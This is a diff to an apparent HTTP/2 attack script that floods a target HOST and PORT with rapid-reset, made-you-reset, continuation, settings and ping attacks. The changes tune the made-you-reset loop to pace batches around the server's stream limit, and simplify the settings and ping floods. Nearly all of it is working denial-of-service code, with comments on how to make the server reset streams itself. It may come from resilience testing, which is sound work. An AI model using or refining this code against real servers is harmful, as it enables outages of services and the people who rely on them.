@@ -14,8 +14,8 @@ stops a second after the first reset, that the connection is rightly still open)
 connection's own port, by which the server's log names it.
 
 Every attack starts the connection as a real client does (the server's SETTINGS are read and
-acknowledged). P is the path requested: the settings and ping floods, zero-window and
-stalled-stream want a large response, made-you-reset and empty-data-flood one that takes a request body.
+acknowledged). P is the path requested: zero-window and stalled-stream want a large response,
+made-you-reset and empty-data-flood one that takes a request body.
 
 usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
 attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
@@ -38,8 +38,6 @@ from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
-DEFAULT_WINDOW = 65535
-MAX_WINDOW = 2 ** 31 - 1
 FRAME_HEADER = 9
 
 
@@ -184,10 +182,16 @@ def run(attack, conn, budget_seconds, path):
         elif attack == "made-you-reset":
             # Each stream is opened, then made invalid so that the server itself must reset it,
             # in turn: a WINDOW_UPDATE of 0 on an open stream (RFC 9113 6.9), more DATA than the
-            # request's content-length (8.1.1), an upper-case field name (8.2.1).
+            # request's content-length (8.1.1), an upper-case field name (8.2.1). Each batch waits
+            # for the resets of the one before, so that the streams open never exceed the
+            # server's limit (a refused stream would make the DATA after it an error).
             conn.start_reader()
             stream = 1
             while not conn.ended() and not spent():
+                wait_until = time.monotonic() + 1
+                while (len(conn.reset_streams) < (stream - 1) // 2 and not conn.ended()
+                       and time.monotonic() < wait_until):
+                    time.sleep(0.001)
                 batch = []
                 for i in range(48):
                     kind = i % 3
@@ -221,13 +225,7 @@ def run(attack, conn, budget_seconds, path):
                 with conn.lock:
                     conn.send(*batch)
         elif attack in ("settings-flood", "ping-flood"):
-            # The client does not read: every frame asks for an answer that queues up. Large
-            # responses, with the windows opened wide, first fill the way to the client (the
-            # server's socket buffer), so that the answers queue up in the server at once.
-            conn.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}),
-                      WindowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW),
-                      *[conn.request_headers(stream, path=path) for stream in range(1, 128, 2)])
-            time.sleep(1)
+            # The client does not read: every frame asks for an answer that queues up.
             while not spent():
                 if attack == "settings-flood":
                     frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
